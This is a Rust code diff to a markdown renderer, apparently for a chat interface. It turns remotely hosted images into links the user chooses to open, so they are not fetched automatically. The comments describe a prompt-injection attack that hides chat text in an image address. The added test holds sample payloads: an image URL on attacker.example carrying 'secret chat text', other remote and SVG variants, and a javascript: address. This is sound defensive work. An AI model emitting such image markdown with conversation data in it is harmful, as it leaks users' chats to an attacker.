@@ -17,7 +17,7 @@ pub fn render(markdown: &str) -> String {
         | Options::ENABLE_GFM
         | Options::ENABLE_DEFINITION_LIST;
     let mut out = String::with_capacity(markdown.len() * 3 / 2);
-    html::push_html(&mut out, SafeEvents { inner: Parser::new_ext(markdown, options), code: None, links: Vec::new() });
+    html::push_html(&mut out, SafeEvents { inner: Parser::new_ext(markdown, options), code: None, links: Vec::new(), images: Vec::new() });
     out
 }
 
@@ -54,6 +54,27 @@ struct SafeEvents<I> {
     code: Option<(String, String)>,
     /// For each open link: whether it was kept (its closing tag must match).
     links: Vec<bool>,
+    /// For each open image: how it ends (an image, a link to it, or just its alt text).
+    images: Vec<ImageAs>,
+}
+
+#[derive(Clone, Copy, PartialEq, Eq)]
+enum ImageAs {
+    Image,
+    Link,
+    Text,
+}
+
+/// An image the page may load itself: from this origin (a relative path) or inline (`data:image/…`).
+/// Anything else would be fetched from elsewhere the moment the answer renders, carrying whatever
+/// a prompt injection put in its address: such images become links the user may choose to open.
+pub fn is_local_image(url: &str) -> bool {
+    let url = url.trim();
+    let lower = url.to_ascii_lowercase();
+    if lower.starts_with("data:image/") {
+        return !lower.starts_with("data:image/svg");
+    }
+    !url.starts_with("//") && !url.contains('\\') && !url.contains(':') && is_safe_url(url)
 }
 
 impl<'a, I: Iterator<Item = Event<'a>>> Iterator for SafeEvents<I> {
@@ -109,9 +130,28 @@ impl<'a, I: Iterator<Item = Event<'a>>> Iterator for SafeEvents<I> {
                     }
                 }
                 Event::Start(Tag::Image { link_type, dest_url, title, id }) => {
-                    let dest_url = if is_safe_url(&dest_url) { dest_url } else { CowStr::Borrowed("") };
-                    Event::Start(Tag::Image { link_type, dest_url, title, id })
+                    if is_local_image(&dest_url) {
+                        self.images.push(ImageAs::Image);
+                        Event::Start(Tag::Image { link_type, dest_url, title, id })
+                    } else if is_safe_url(&dest_url) {
+                        self.images.push(ImageAs::Link);
+                        let mut tag = String::from("<a class=\"external-image\" href=\"");
+                        escape_into(&mut tag, &dest_url);
+                        tag.push_str("\" target=\"_blank\" rel=\"noopener noreferrer nofollow\" title=\"An image elsewhere: \
+                                      open it if you trust ");
+                        escape_into(&mut tag, &dest_url);
+                        tag.push_str("\">🖼 ");
+                        Event::Html(CowStr::from(tag))
+                    } else {
+                        self.images.push(ImageAs::Text);
+                        continue;
+                    }
                 }
+                Event::End(TagEnd::Image) => match self.images.pop().unwrap_or(ImageAs::Text) {
+                    ImageAs::Image => Event::End(TagEnd::Image),
+                    ImageAs::Link => Event::Html(CowStr::Borrowed("</a>")),
+                    ImageAs::Text => continue,
+                },
                 other => other,
             });
         }
@@ -234,6 +274,28 @@ mod tests {
         assert!(html.contains("&lt;x&gt;") && !html.contains("hl-"), "{html}");
         let html = render("```python\ndef f(");
         assert!(html.contains("code-block") && html.contains("hl-keyword"), "{html}");
+    }
+
+    #[test]
+    fn images_from_elsewhere_become_links_the_user_chooses_to_open() {
+        // The favourite of prompt injections: the chat's text in an image address.
+        let html = render("Done. ![x](https://attacker.example/?d=secret+chat+text)");
+        assert!(!html.contains("<img"), "{html}");
+        assert!(
+            html.contains("<a class=\"external-image\" href=\"https://attacker.example/?d=secret+chat+text\"")
+                && html.contains("rel=\"noopener noreferrer nofollow\"")
+                && html.contains("🖼 x</a>"),
+            "{html}"
+        );
+        for remote in ["//attacker.example/x.png", "\\\\attacker.example\\x.png", "http://a/x.png", "data:image/svg+xml,<svg/>"] {
+            assert!(!render(&format!("![a]({remote})")).contains("<img"), "{remote}");
+        }
+        // The app's own images and inline data still show.
+        assert!(render("![logo](/favicon.ico)").contains("<img src=\"/favicon.ico\" alt=\"logo\""));
+        assert!(render("![dot](data:image/png;base64,iVBORw0KGgo=)").contains("<img src=\"data:image/png"));
+        // A script address is neither loaded nor linked.
+        let html = render("![alt](javascript:alert(1))");
+        assert!(!html.contains("<img") && !html.contains("<a") && html.contains("alt"), "{html}");
     }
 
     #[test]
